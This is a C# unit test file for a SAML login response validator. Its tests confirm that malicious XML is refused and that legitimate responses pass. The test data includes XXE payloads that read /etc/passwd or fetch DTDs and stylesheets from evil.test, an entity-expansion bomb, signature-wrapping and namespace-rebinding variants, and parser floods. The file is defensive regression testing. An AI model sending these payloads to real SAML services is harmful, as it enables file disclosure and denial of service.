using System.Text;
using Weblogin.Saml.Issuing;
using Weblogin.Saml.Responses;
using Weblogin.Saml.Tests.Kit;

namespace Weblogin.Saml.Tests.Responses;

/// <summary>
/// Bombs, and documents that two parsers read differently (CVE-2025-25291, CVE-2025-25292, CVE-2025-66567, CVE-2025-66568).
/// </summary>
public sealed class HostileDocumentTests
{
    private static readonly string Genuine = Login.Response();

    [Theory]
    [InlineData("<!DOCTYPE x>")]
    [InlineData("<!DOCTYPE samlp:Response [<!ENTITY a 'x'>]>")]
    [InlineData("<!DOCTYPE x SYSTEM 'http://evil.test/x.dtd'>")]
    [InlineData("<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.test/p'> %p;]>")]
    [InlineData("<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>")]
    [InlineData("<!DOCTYPE x [<!ENTITY a '0'><!ENTITY b '&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>")]
    [InlineData("<!DOCTYPE x [<!ATTLIST Assertion ID ID #IMPLIED>]>")]
    [InlineData("<?xml version='1.0'?><!DOCTYPE x>")]
    [InlineData("<?xml version='1.1'?>")]
    [InlineData("<?xml version='1.0' encoding='ISO-8859-1'?>")]
    [InlineData("<?xml version='1.0' encoding='UTF-7'?>")]
    [InlineData("<?xml version='1.0' encoding='utf-16'?>")]
    [InlineData("<?xml version='1.0' encoding='IBM037'?>")]
    [InlineData("<?xml version='1.0' encoding='nonsense'?>")]
    [InlineData(" <?xml version='1.0'?>")]
    [InlineData("<?xml-stylesheet href='http://evil.test/x.xsl'?>")]
    [InlineData("text")]
    [InlineData("\0")]
    public void prologue_is_refused(string prologue) => Login.Refuses(RefusalReason.Malformed, prologue + Genuine);

    [Theory]
    [InlineData("<?xml version='1.0'?>")]
    [InlineData("<?xml version=\"1.0\" encoding=\"utf-8\" standalone=\"yes\"?>\r\n")]
    [InlineData("<?xml version='1.0' encoding='UTF-8'?><!-- c -->")]
    [InlineData("\uFEFF")]
    [InlineData("\n")]
    public void ordinary_prologue_is_accepted(string prologue) => Login.Accepts(prologue + Genuine);

    [Theory]
    [InlineData("x")]
    [InlineData("<x/>")]
    [InlineData("</samlp:Response>")]
    [InlineData("<?x?>")]
    [InlineData("\0")]
    public void epilogue_is_refused(string epilogue) => Login.Refuses(RefusalReason.Malformed, Genuine + epilogue);

    [Fact]
    public void other_encodings_and_invalid_octets_are_refused()
    {
        foreach (var encoding in (Encoding[])[Encoding.Unicode, Encoding.BigEndianUnicode, Encoding.UTF32, Encoding.Latin1])
        {
            Refuses(RefusalReason.Malformed, encoding.GetBytes(Genuine));
            Refuses(RefusalReason.Malformed, [.. encoding.GetPreamble(), .. encoding.GetBytes(Genuine)]);
        }

        var octets = Encoding.UTF8.GetBytes(Genuine);
        var at = Genuine.IndexOf(Login.NationalId, StringComparison.Ordinal);
        foreach (var invalid in (byte[][])[[0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xFF], [0xF5, 0x80, 0x80, 0x80], [0x01], [0xEF, 0xBF, 0xBF]])
        {
            Refuses(RefusalReason.Malformed, [.. octets[..at], .. invalid, .. octets[at..]]);
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("not base64!")]
    [InlineData("AAA")]
    [InlineData("PHg+")]
    [InlineData("====")]
    public void form_value_that_is_no_document_is_refused(string value)
    {
        Assert.Equal(RefusalReason.Malformed, Assert.IsType<ResponseOutcome.Refused>(new ResponseValidator().Validate(value, Login.Expectation)).Reason);
    }

    [Fact]
    public void base64_in_lines_is_accepted()
    {
        var value = Convert.ToBase64String(Encoding.UTF8.GetBytes(Genuine), Base64FormattingOptions.InsertLineBreaks);
        Assert.IsType<ResponseOutcome.Accepted>(new ResponseValidator().Validate(value, Login.Expectation));
    }

    [Theory]
    [InlineData("xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"", "xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:Protocol\"")]
    [InlineData("xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"", "xmlns:samlp=\"\"")]
    [InlineData("<Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"", "<Assertion xmlns=\"urn:oasis:names:tc:SAML:1.0:assertion\"")]
    [InlineData("<Assertion xmlns=\"urn:oasis:names:tc:SAML:2.0:assertion\"", "<Assertion xmlns=\"\"")]
    [InlineData("xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"", "xmlns:ds=\"http://www.w3.org/2000/09/xmldsig\"")]
    [InlineData("<ds:SignatureValue>", "<ds:SignatureValue xmlns:ds=\"urn:x\">")]
    [InlineData("<Subject>", "<Subject xmlns=\"urn:x\">")]
    [InlineData("<samlp:Status>", "<samlp:status>")]
    [InlineData("ID=\"_", "ID=\"_\" ID=\"_")]
    [InlineData("<samlp:Response ", "<samlp:Response xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:q=\"1\" b:q=\"2\" ")]
    [InlineData("<samlp:Response ", "<samlp:Response xml:base=\"x\" xmlns:xml=\"urn:x\" ")]
    [InlineData("<samlp:Response ", "<samlp:Response xmlns:xmlns=\"urn:x\" ")]
    [InlineData("Destination=", "Destination=\"https://evil.test/\" Destination=")]
    [InlineData("<samlp:Status>", "text<samlp:Status>")]
    [InlineData("<samlp:Status>", "<x/><samlp:Status>")]
    [InlineData("<Conditions", "&nbsp;<Conditions")]
    [InlineData("<Conditions", "&#0;<Conditions")]
    [InlineData("<Conditions", "<![CDATA[ ]]><Conditions")]
    public void rebinding_and_ambiguity_are_refused(string genuine, string changed)
    {
        Assert.Contains(genuine, Genuine, StringComparison.Ordinal);
        Assert.IsType<ResponseOutcome.Refused>(Login.Validate(Genuine.Replace(genuine, changed, StringComparison.Ordinal)));
    }

    [Fact]
    public void prefixes_of_the_sender_mean_nothing()
    {
        var other = Genuine.Replace("samlp:", "a:", StringComparison.Ordinal).Replace("xmlns:samlp", "xmlns:a", StringComparison.Ordinal);
        Assert.Equal([Login.NationalId], Login.Accepts(other).ValuesOf(Login.PidClaim));
        Login.Accepts(Genuine.Replace("<samlp:Response ", "<samlp:Response xmlns:unused=\"urn:unused\" xmlns=\"urn:default\" ", StringComparison.Ordinal));
    }

    [Fact]
    public void large_response_is_refused_before_it_is_parsed()
    {
        Login.Refuses(RefusalReason.TooLarge, Genuine.Replace("Kari", new string('k', 1024 * 1024), StringComparison.Ordinal));
        Login.Refuses(RefusalReason.TooLarge, new string(' ', 1024 * 1024) + Genuine);
        Assert.Equal(
            RefusalReason.TooLarge,
            Assert.IsType<ResponseOutcome.Refused>(new ResponseValidator().Validate(new string('\n', 1024 * 1024), Login.Expectation)).Reason);
    }

    [Fact]
    public void floods_are_refused()
    {
        Login.Refuses(RefusalReason.TooLarge, Into(string.Concat(Enumerable.Range(0, 5000).Select(static i => $" xmlns:n{i}=\"urn:{i}\""))));
        Login.Refuses(RefusalReason.TooLarge, Into(string.Concat(Enumerable.Range(0, 17).Select(static i => $" xmlns:n{i}=\"urn:{i}\""))));
        Login.Refuses(RefusalReason.TooLarge, Into(string.Concat(Enumerable.Range(0, 10_000).Select(static i => $" a{i}=''"))));
        Login.Refuses(RefusalReason.TooLarge, Into(string.Concat(Enumerable.Range(0, 10_000).Select(static i => $" a{i}\r=\n\"\""))));
        Login.Refuses(RefusalReason.TooLarge, Into(string.Concat(Enumerable.Range(0, 33).Select(static i => $" a{i}=\"\""))));
        Login.Refuses(RefusalReason.TooLarge, Into("><x", string.Concat(Enumerable.Repeat("<x/>", 5000))));
        Login.Refuses(RefusalReason.TooLarge, Into("><x", string.Concat(Enumerable.Repeat("<x>", 40)) + string.Concat(Enumerable.Repeat("</x>", 40))));
        Login.Refuses(RefusalReason.TooLarge, Into("><x", string.Concat(Enumerable.Repeat("<x xmlns:a='urn:a' xmlns:b='urn:b'/>", 1100))));
        Login.Refuses(RefusalReason.TooLarge, Into("><x", new string('t', 140_000)));
        Login.Refuses(RefusalReason.TooLarge, Into($" a=\"{new string('t', 140_000)}\""));
        Login.Refuses(RefusalReason.TooLarge, Into("><x", string.Concat(Enumerable.Repeat("<x>", 100_000))));

        // Into Extensions, which is where a stranger's elements may be.
        static string Into(string attributes, string content = "") => Genuine.Replace(
            "<samlp:Status>",
            $"<samlp:Extensions><x{(attributes.StartsWith('>') ? string.Empty : attributes)}>{content}</x></samlp:Extensions><samlp:Status>",
            StringComparison.Ordinal);
    }

    [Fact]
    public void user_with_a_thousand_groups_is_accepted()
    {
        var groups = Enumerable.Range(0, 1000).Select(static i => $"VIRKSOMHET1\\gruppe-{i}").ToArray();
        var content = Login.Content with { Attributes = [Login.Attribute(Login.PidClaim, Login.NationalId), Login.Attribute("groups", groups)] };
        Assert.Equal(groups, Login.Accepts(Login.Response(SignedParts.Both, content)).ValuesOf("groups"));
    }

    [Fact]
    public void canonical_form_may_be_larger_than_the_message()
    {
        // Four values of 60,000 characters, which canonical XML writes as 240,000 octets each.
        var value = new string('>', 60_000);
        var content = Login.Content with { Attributes = [Login.Attribute("x", value, value, value, value)] };
        var response = Login.Response(SignedParts.Both, content).Replace("&gt;", ">", StringComparison.Ordinal);
        Assert.Equal([value, value, value, value], Login.Accepts(response).ValuesOf("x"));
    }

    private static void Refuses(RefusalReason reason, byte[] octets) =>
        Assert.Equal(reason, Assert.IsType<ResponseOutcome.Refused>(Login.Validate(octets)).Reason);
}
